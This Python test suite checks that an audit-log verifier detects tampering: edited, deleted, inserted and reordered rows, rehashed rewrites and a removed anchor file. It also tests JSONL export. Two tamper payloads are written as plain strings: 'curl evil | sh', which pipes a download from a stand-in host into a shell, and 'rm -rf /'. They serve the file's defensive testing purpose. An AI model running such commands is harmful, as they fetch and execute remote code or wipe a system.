"""Tamper evidence: seven kinds of tampering found by `arrowgate log verify`, no false alarms."""

from __future__ import annotations

import json
import os
import sqlite3
from typing import Any

import psycopg
import pytest

from engine.app.cli import main
from engine.store.log import FIELDS, row_hash
from tests.durability.targets import Target

#: Why an appended row is a finding on SQLite alone.
APPENDS_ARE_NORMAL = ("on PostgreSQL other engines append after the newest row this machine's "
                      "anchor knows, so a row appended there is never a finding "
                      "(engine.store.pg.anchoring)")
#: Why a deleted anchor is a finding on SQLite alone.
ANCHOR_IS_LOCAL = ("the SQLite database remembers that it has an anchor; a PostgreSQL "
                   "database is shared by machines that may never have written it, so a "
                   "machine without an anchor file is no finding")


@pytest.fixture
async def logged(world, target: Target) -> Target:
    """A log of 8 rows in the store, the engine closed."""
    for i in range(8):
        await world.call("c1", "terminals.run", "t1", {"command": f"cmd {i}"})
    world.close()
    return target


def _verify(store: Target, capsys) -> tuple[int, str]:
    code = main(["log", "verify", *store.args()])
    return code, capsys.readouterr().out


def _rehash_all(conn: Any, mark: str = "?") -> None:
    """What a careful forger does: recompute every link and hash (``mark``: the
    placeholder of ``conn``'s driver)."""
    prev = "0" * 64
    cursor = conn.execute("select * from log order by seq")
    cols = [d[0] for d in cursor.description]
    for raw in cursor.fetchall():
        row = dict(zip(cols, raw))
        row["chain"] = json.loads(row["chain"]) if row["chain"] else None
        new = row_hash(prev, {f: row[f] for f in FIELDS})
        conn.execute(f"update log set prev = {mark}, hash = {mark} where seq = {mark}",
                     [prev, new, row["seq"]])
        prev = new


def test_untouched_log_gives_no_false_alarm(logged: Target, capsys) -> None:
    """An untouched log verifies, exit 0."""
    code, out = _verify(logged, capsys)
    assert code == 0 and "ok: 8 rows" in out


@pytest.mark.parametrize("kind, tamper, first_bad", [
    ("altered payload", "update log set payload = 'curl evil | sh' where seq = 3", 3),
    ("altered outcome", "update log set outcome = 'denied' where seq = 4", 4),
    ("deleted middle row", "delete from log where seq = 5", 6),
    # Only the anchor knows how long the log was: a cut tail leaves a valid chain.
    # (on PostgreSQL: this machine's anchor, engine.store.pg.anchoring).
    ("deleted tail rows", "delete from log where seq >= 7", 7),
    ("inserted row", "insert into log (seq, t, call, outcome, prev, hash) values "
                     "(9, 0, 'terminals.run', 'ok', 'x', 'y')", 9),
    ("reordered rows", "update log set seq = case seq when 2 then 1000 else seq end; "
                       "update log set seq = 2 where seq = 3; "
                       "update log set seq = 3 where seq = 1000", 2),
])
def test_tampering_is_found(logged: Target, capsys, kind: str, tamper: str,
                            first_bad: int) -> None:
    """Each kind of tampering is found, naming the first bad row; exit 1."""
    logged.execute(tamper)
    code, out = _verify(logged, capsys)
    assert code == 1, kind
    assert f"first bad row {first_bad}" in out, out


@pytest.mark.parametrize("kind", [
    "rewritten chain",
    pytest.param("forged appended row", marks=pytest.mark.sqlite_only(APPENDS_ARE_NORMAL)),
    "cut tail rehashed",
])
def test_consistent_rewrites_are_found_by_the_anchor(logged: Target, capsys, kind: str) -> None:
    """A chain rewritten consistently (valid hashes throughout) disagrees with the anchor."""
    conn: Any
    if logged.dsn is not None:
        conn = psycopg.connect(logged.dsn)
    else:
        conn = sqlite3.connect(logged.db)
    if kind == "rewritten chain":
        conn.execute("update log set payload = 'rm -rf /' where seq = 2")
    elif kind == "forged appended row":
        conn.execute("insert into log (seq, t, call, outcome, prev, hash) values "
                     "(9, 0, 'terminals.run', 'ok', '', '')")
    else:
        conn.execute("delete from log where seq = 8")
    _rehash_all(conn, "%s" if logged.postgres else "?")
    conn.commit()
    conn.close()
    code, out = _verify(logged, capsys)
    assert code == 1 and ("anchor" in out or "missing" in out), out
    if kind == "rewritten chain":
        assert "first bad row 8" in out and "rewritten" in out, out
    elif kind == "cut tail rehashed":
        assert "first bad row 8" in out and "missing" in out, out


@pytest.mark.sqlite_only(ANCHOR_IS_LOCAL)
def test_deleting_the_anchor_is_a_finding(logged: Target, capsys) -> None:
    """The database remembers it has an anchor."""
    os.remove(str(logged.db) + ".anchor")
    code, out = _verify(logged, capsys)
    assert code == 1 and "anchor file is missing" in out


def test_export_jsonl_schema(logged: Target, capsys) -> None:
    """One decision per line, in the documented schema."""
    assert main(["log", "export", "--jsonl", *logged.args()]) == 0
    lines = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
    assert len(lines) == 8
    first = lines[0]
    assert first["schema"] == "arrowgate.decision/1" and first["seq"] == 1
    assert first["input"]["payload"] == "cmd 0" and first["result"]["outcome"] == "ok"
    assert set(first) == {"schema", "decision_id", "seq", "timestamp", "workspace", "input",
                          "result", "chain"}
